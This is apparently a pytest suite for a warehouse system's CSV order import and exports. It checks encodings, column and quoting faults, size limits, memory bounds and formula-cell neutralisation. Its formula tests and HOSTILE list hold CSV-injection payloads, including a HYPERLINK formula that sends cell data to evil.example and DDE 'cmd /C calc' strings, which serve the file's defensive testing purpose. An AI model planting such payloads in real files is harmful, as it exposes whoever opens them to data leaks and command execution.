"""Order files from outside that are broken, hostile or huge: `flask orders import` and the
service under it (services.order_import, services.csv_safety) refuse them naming the line
and the column, never import half of an order, and stay within bounded memory; the CSV
exports write no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import codecs
import csv
import io
import time
import tracemalloc
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select

from customs import export_documents
from tests import factories as f
from tests.integration.customs import support as c
from tests.integration.outbound import support as o
from wms.db import Database
from wms.models import Flow, Order
from wms.services import csv_safety, declarations, order_import, orders
from wms.services.customs_documents import CHINA

COLUMNS = order_import.CSV_COLUMNS
HEADER = ",".join(COLUMNS)


def cells(number: str, **change: str) -> dict[str, str]:
    row = dict.fromkeys(COLUMNS, "")
    row.update(
        channel="TMALLG",
        order_number=number,
        flow="bonded_import",
        warehouse=f.WAREHOUSE,
        currency="CNY",
        consignee_name="张三",
        consignee_id_type="resident_id",
        consignee_id_number="11010519491231002X",
        consignee_phone="13812345678",
        consignee_country="CN",
        consignee_province="浙江省",
        consignee_city="杭州市",
        consignee_address="文一西路969号",
        payment_number=f"PAY{number}",
        payer_name="张三",
        paid_amount="500.00",
        paid_at="2026-11-21T08:30:00+08:00",
        sku=f.MILK.sku,
        quantity="1",
        unit_price="199.00",
    )
    row.update(change)
    return row


def line(number: str, **change: str) -> str:
    """One CSV row (cells quoted as the csv module would)."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow(cells(number, **change).values())
    return buffer.getvalue().removesuffix("\n")


def text(*rows: str) -> str:
    return "\n".join([HEADER, *rows]) + "\n"


@pytest.fixture
def shop(db: Database) -> Database:
    f.build_warehouse(db)
    o.channel(db)
    return db


def run(app: Flask, path: Path, *args: str) -> tuple[int, str]:
    result = app.test_cli_runner().invoke(args=["orders", "import", str(path), *args])
    return result.exit_code, result.output


def numbers(db: Database) -> dict[str, int]:
    """Order number -> number of its lines, of every order in the database."""
    with db.reading() as s:
        return {o.order_number: len(o.lines) for o in s.scalars(select(Order))}


def count(db: Database) -> int:
    with db.reading() as s:
        return s.scalar(select(func.count()).select_from(Order)) or 0


# --- encodings --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("bom", "codec"),
    [(codecs.BOM_UTF8, "utf-8"), (codecs.BOM_UTF16_LE, "utf-16-le"),
     (codecs.BOM_UTF16_BE, "utf-16-be")],
    ids=["utf-8-bom", "utf-16-le", "utf-16-be"],
)  # fmt: skip
def test_a_byte_order_mark_says_the_encoding(
    app: Flask, shop: Database, tmp_path: Path, bom: bytes, codec: str
) -> None:
    path = tmp_path / "orders.csv"
    path.write_bytes(bom + text(line("E1"), line("E1", sku=f.SERUM.sku)).encode(codec))
    code, output = run(app, path)
    assert code == 0, output
    assert "accepted 1 (new 1, already there 0)" in output
    with shop.reading() as s:
        order = s.scalar(select(Order))
        assert order is not None
        assert (order.order_number, order.consignee_name, len(order.lines)) == ("E1", "张三", 2)


def test_a_gb18030_file_is_refused_unless_its_encoding_is_named(
    app: Flask, shop: Database, tmp_path: Path
) -> None:
    """Excel on Chinese Windows saves "CSV" in GBK/GB18030.  Without a byte-order mark the
    file must be UTF-8: the refusal names the line and the byte, and says what the file
    looks like.  Named, the same bytes are read right."""
    path = tmp_path / "excel.csv"
    path.write_bytes(text(line("G1"), line("G2", consignee_name="李四")).encode("gb18030"))
    code, output = run(app, path)
    assert code == 2, output
    first_chinese = len(HEADER) + 1 + line("G1").index("张")
    assert f"line 2: not UTF-8 text: byte {first_chinese} (0xd5) is not valid UTF-8" in output
    assert "looks like GB18030/GBK" in output
    assert count(shop) == 0

    found = order_import.open_orders(path, "csv", encoding="gb18030")
    assert found.count == 2
    outcomes = list(order_import.receive_stream(shop, found, actor="import"))
    assert [o.status for o in outcomes] == ["new", "new"]
    with shop.reading() as s:
        assert sorted(s.scalars(select(Order.consignee_name))) == sorted(["张三", "李四"])


def test_one_broken_byte_late_in_the_file_refuses_the_file_before_any_order_is_in(
    app: Flask, shop: Database, tmp_path: Path
) -> None:
    rows = [line(f"B{n}") for n in range(1, 51)]
    body = text(*rows).encode()
    at = body.index(b"B40,") + 1  # inside line 41 (the header is line 1)
    broken = body[:at] + b"\xff" + body[at + 1 :]
    path = tmp_path / "broken.csv"
    path.write_bytes(broken)
    code, output = run(app, path)
    assert code == 2, output
    assert f"line 41: not UTF-8 text: byte {at} (0xff) is not valid UTF-8" in output
    assert count(shop) == 0  # nothing half-imported: the 39 good orders before it wait too


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("channel,order_number\n".encode("utf-16-le"), "a UTF-16 file without its byte-order mark"),
        (codecs.BOM_UTF32_LE + HEADER.encode("utf-32-le"), "the file is UTF-32"),
        (codecs.BOM_UTF16_LE + b"c\x00h\x00\x00\xd8", "nor the UTF-16 its byte-order mark"),
    ],
    ids=["utf-16-without-bom", "utf-32", "broken-utf-16"],
)  # fmt: skip
def test_other_encodings_are_refused_saying_why(
    app: Flask, shop: Database, tmp_path: Path, content: bytes, message: str
) -> None:
    path = tmp_path / "odd.csv"
    path.write_bytes(content)
    code, output = run(app, path)
    assert code == 2, output
    assert "line 1: " in output and message in output


def test_a_nul_character_refuses_the_file_naming_line_and_column(
    app: Flask, shop: Database, tmp_path: Path
) -> None:
    rows = [line(f"N{n}") for n in range(1, 31)]
    rows[27] = line("N28", consignee_address="文一西路\x00969号")
    path = tmp_path / "nul.csv"
    path.write_text(text(*rows), encoding="utf-8")
    code, output = run(app, path)
    assert code == 2, output
    assert "line 29: holds a NUL character in consignee_address" in output
    assert count(shop) == 0


# --- columns ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("header", "message"),
    [
        (HEADER.replace("consignee_name", "Consignee_Name"),
         "line 1: unknown column(s) Consignee_Name (did you mean consignee_name?)"),
        (HEADER + ",colour", "line 1: unknown column(s) colour"),
        (HEADER.replace(",unit_price", ""), "line 1: missing column(s) unit_price"),
        (HEADER + ",payer_name", "line 1: column payer_name is named twice (columns 19 and 27)"),
        (HEADER + ",", "line 1: column(s) 27 have no name"),
    ],
    ids=["misspelt", "unknown", "missing", "twice", "unnamed"],
)  # fmt: skip
def test_column_faults_refuse_the_file_naming_the_column(
    app: Flask, shop: Database, tmp_path: Path, header: str, message: str
) -> None:
    path = tmp_path / "columns.csv"
    path.write_text(header + "\n" + line("K1") + "\n", encoding="utf-8")
    code, output = run(app, path)
    assert code == 2, output
    assert message in output
    assert count(shop) == 0


@pytest.mark.parametrize(
    ("tail", "message"),
    [
        ('TMALLG,Q9,"never closed\n' + line("Q10") + "\n",
         "line 5: the quoted cell opened on line 4 is never closed"),
        ('TMALLG,"Q9"x\n', "line 4: text after the closing quote of a cell"),
        ("TMALLG,Q9\rTMALLG,Q10\n", "line 4: a carriage return inside a cell that is not"),
    ],
    ids=["open-quote", "after-quote", "bare-cr"],
)  # fmt: skip
def test_broken_quoting_refuses_the_file_rather_than_swallowing_rows(
    app: Flask, shop: Database, tmp_path: Path, tail: str, message: str
) -> None:
    path = tmp_path / "quotes.csv"
    path.write_text(text(line("Q1"), line("Q2")) + tail, encoding="utf-8")
    code, output = run(app, path)
    assert code == 2, output
    assert message in output
    assert count(shop) == 0


def test_a_broken_row_refuses_its_whole_order_and_only_that_order(
    app: Flask, shop: Database, tmp_path: Path
) -> None:
    """Order H1's second row has a cell too many (an unquoted comma in the address): H1 is
    refused whole, not imported as a one-line order; H2, whose rows are not adjacent and
    whose last row is at fault, likewise; H3 goes in."""
    path = tmp_path / "rows.csv"
    path.write_text(
        text(
            line("H1"),  # line 2
            line("H1", sku=f.SERUM.sku) + ",extra",  # line 3
            line("H2"),  # line 4
            line("H3"),  # line 5
            line("H2", sku=f.SERUM.sku, quantity="=2+1"),  # line 6
        ),
        encoding="utf-8",
    )
    code, output = run(app, path)
    assert code == 1, output
    assert "lines 2-3: order H1: row (line 3): has 27 cells where the header names 26" in output
    assert (
        "lines 4, 6: order H2: quantity (line 6): starts with '=': a spreadsheet would run it"
        in output
    )
    assert numbers(shop) == {"H3": 1}


# --- formula cells ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("column", "cell"),
    [
        ("consignee_name", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
        ("consignee_address", "\t=cmd|' /C calc'!A0"),
        ("payer_name", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("consignee_city", "+1+1"),
        ("consignee_district", "-2+3"),
        ("order_number", "=1+1"),
        ("sku", " =A1"),
    ],
)
def test_a_formula_cell_refuses_its_order_naming_line_and_column(
    app: Flask, shop: Database, tmp_path: Path, column: str, cell: str
) -> None:
    path = tmp_path / "formula.csv"
    bad = line("F2", **{column: cell})
    path.write_text(text(line("F1"), bad, line("F3")), encoding="utf-8")
    code, output = run(app, path)
    assert code == 1, output
    assert "line 3: order " in output
    assert f"{column} (line 3): starts with {cell.strip()[0]!r}" in output
    assert set(numbers(shop)) == {"F1", "F3"}


def test_what_looks_like_a_sign_but_is_data_goes_to_the_columns_rules(
    app: Flask, shop: Database, tmp_path: Path
) -> None:
    """An international phone number starts with "+"; a negative quantity is a number the
    quantity rule refuses (not a formula); a leading tab before text is trimmed."""
    path = tmp_path / "signs.csv"
    path.write_text(
        text(
            line("S1", consignee_phone="+86 138-1234-5678"),
            line("S2", quantity="-1"),
            line("S3", consignee_name="\t王五"),
            line("S4", consignee_phone="=1+1"),
        ),
        encoding="utf-8",
    )
    code, output = run(app, path)
    assert code == 1, output
    assert "line 3: order S2: quantity (line 3): Input should be greater than 0" in output
    assert "line 5: order S4: consignee_phone: String should match pattern" in output
    assert set(numbers(shop)) == {"S1", "S3"}
    with shop.reading() as s:
        assert s.scalar(select(Order.consignee_name).where(Order.order_number == "S3")) == "王五"


# --- huge files -------------------------------------------------------------------------------


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(
    app: Flask, shop: Database, tmp_path: Path
) -> None:
    path = tmp_path / "huge.csv"
    with path.open("wb") as handle:  # sparse: nothing is written but the header
        handle.write(HEADER.encode() + b"\n")
        handle.truncate(csv_safety.DEFAULT_LIMITS.max_bytes + 1)
    started = time.perf_counter()
    with pytest.raises(order_import.UnreadableFile, match="more than the 67,108,864 one import"):
        order_import.open_orders(path, "csv")
    assert time.perf_counter() - started < 0.5
    code, output = run(app, path)
    assert code == 2 and "split it" in output
    assert count(shop) == 0


def test_a_file_of_too_many_lines_is_refused_naming_the_line(
    app: Flask, shop: Database, tmp_path: Path
) -> None:
    most = csv_safety.DEFAULT_LIMITS.max_lines
    path = tmp_path / "long.csv"
    path.write_text(text(line("L1")) + "\n" * (most - 1), encoding="utf-8")
    code, output = run(app, path)
    assert code == 2, output
    assert f"line {most + 1}: a file holds at most {most:,} lines: split it" in output
    assert count(shop) == 0


def test_a_line_without_end_is_refused_after_reading_little_of_it(
    app: Flask, shop: Database, tmp_path: Path
) -> None:
    path = tmp_path / "one-line.csv"
    with path.open("w", encoding="utf-8") as handle:
        handle.write(text(line("W1"), line("W2")))
        handle.write("TMALLG," + "x" * 10_000_000)  # 10 MB, no newline
    tracemalloc.start()
    try:
        with pytest.raises(order_import.UnreadableFile) as refused:
            order_import.open_orders(path, "csv")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert str(refused.value) == "line 4: the line is longer than 8,192 characters"
    assert peak < 1_000_000
    code, output = run(app, path)
    assert code == 2 and "line 4: the line is longer than 8,192 characters" in output
    assert count(shop) == 0


def test_a_very_long_cell_refuses_its_order_naming_line_and_column(
    app: Flask, shop: Database, tmp_path: Path
) -> None:
    """A quoted cell may span lines; one longer than the cell limit is refused."""
    address = "\n".join(["文一西路969号" * 12] * 12)  # 12 lines, 1,163 characters
    assert len(address) == 1163
    path = tmp_path / "cell.csv"
    path.write_text(text(line("V1", consignee_address=address), line("V2")), encoding="utf-8")
    code, output = run(app, path)
    assert code == 1, output
    assert (
        "line 2: order V1: consignee_address (line 2): is 1,163 characters long, "
        "more than 1,000" in output
    )
    assert set(numbers(shop)) == {"V2"}


def test_a_large_file_streams_in_bounded_memory(tmp_path: Path) -> None:
    """6,000 orders of 3 lines (5 MB): checking the file holds a 12-byte digest per order;
    reading it order by order holds one order at a time (and the validator's caches, of
    a fixed size)."""
    path = tmp_path / "big.csv"
    skus = (f.MILK.sku, f.SERUM.sku, f.MILK.gtin)
    with path.open("w", encoding="utf-8") as handle:
        handle.write(HEADER + "\n")
        for n in range(6000):
            for sku in skus:
                handle.write(line(f"M{n:06d}", sku=sku, consignee_address="文一西路969号" * 5))
                handle.write("\n")
    size = path.stat().st_size
    assert size > 5_000_000
    tracemalloc.start()
    try:
        found = order_import.open_orders(path, "csv")
        checking = tracemalloc.get_traced_memory()[1]
        tracemalloc.reset_peak()
        read = sum(1 for incoming in found if incoming.problem is None)
        reading = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert found.count == read == 6000
    assert checking < 2_000_000, checking
    assert reading < 2_500_000, reading


# --- CSV exports ------------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example","x")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
HARMLESS = ["-12.50", "+3", "0402", "张三", "Unter den Linden 1", "", "a=b"]


def test_both_copies_of_the_rule_neutralise_the_same_cells() -> None:
    for cell in HOSTILE:
        assert csv_safety.spreadsheet_safe(cell) == "'" + cell
        assert export_documents.spreadsheet_safe(cell) == "'" + cell
    for cell in HARMLESS:
        assert csv_safety.spreadsheet_safe(cell) == cell
        assert export_documents.spreadsheet_safe(cell) == cell
    assert csv_safety.FORMULA_STARTS == export_documents.FORMULA_STARTS
    assert csv_safety.spreadsheet_safe(-5) == -5
    buffer = io.StringIO()
    csv_safety.SafeWriter(buffer, lineterminator="\n").writerow(["=1+1", -5, "-5", "ok"])
    assert buffer.getvalue() == "'=1+1,-5,-5,ok\n"


def test_the_eu_low_value_export_writes_a_hostile_consignee_as_text(
    client: FlaskClient, db: Database
) -> None:
    """An export order whose buyer is named like a formula (the API stores names as
    given): the EU low-value CSV the broker downloads carries it with a leading
    apostrophe, so a spreadsheet shows it and runs nothing."""
    wh = c.stocked(db)
    name, address = '=HYPERLINK("http://evil.example","x")', "@SUM(1)*cmd|' /C calc'!A0"
    data = o.order_input((f.MILK.sku, 1), flow=Flow.EXPORT, unit_price=Decimal("20.00"))
    consignee = replace(
        data.consignee,
        name=name,
        country="DE",
        province=None,
        city="-Berlin",
        district=None,
        address=address,
        postcode="10117",
        id_type=None,
        id_number=None,
    )
    with wh.transaction() as s:
        order_id = orders.receive_order(
            s, replace(data, consignee=consignee, payment=None), actor="api"
        ).order.id
    o.advance(wh, order_id, "allocated", "planned", "declared")
    with wh.reading() as s:
        number = orders.order_by_id(s, order_id).declaration_ref
        assert number
        submitted = declarations.declaration_by_number(s, number).submitted_at
    assert submitted is not None
    month = submitted.astimezone(CHINA).strftime("%Y-%m")
    response = client.get(
        "/api/v1/export/eu-low-value",
        query_string={"month": month, "format": "csv"},
        headers={"Authorization": f"Bearer {c.token(wh)}"},
    )
    assert response.status_code == 200, response.get_data(as_text=True)
    [row] = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert row["consignee_name"] == "'" + name
    assert row["consignee_address"].startswith("'@SUM(1)")
    assert row["consignee_city"] == "'-Berlin"
    assert row["intrinsic_value"] == "20.00"  # numbers stay numbers
